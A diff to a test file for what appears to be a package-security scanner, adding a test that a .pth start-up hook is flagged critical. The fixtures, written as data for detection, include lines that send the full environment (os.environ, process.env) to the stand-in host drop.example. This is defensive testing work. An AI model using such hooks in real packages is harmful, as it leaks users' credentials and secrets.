@@ -94,6 +94,12 @@ class TestAlarm:
     def test_the_ways_of_a_shell(self, command: str) -> None:
         assert severities(npm(scripts={"preinstall": command})) == ["critical"]
 
+    def test_a_start_up_hook_is_critical(self) -> None:
+        line = "import os, urllib.request as u; u.urlopen('https://drop.example/', data=str(dict(os.environ)).encode())"
+        assert told(findings(environment_harvest, wheel({"a.pth": line}))) == [
+            "critical: its start-up hook takes the whole environment and sends it to drop.example"
+        ]
+
     def test_it_shows_where_it_is_taken_and_where_it_goes(self) -> None:
         source = "const all = JSON.stringify(process.env);\n\nfetch('https://drop.example/', { method: 'POST', body: all });\n"
         (found,) = findings(environment_harvest, installs(source))
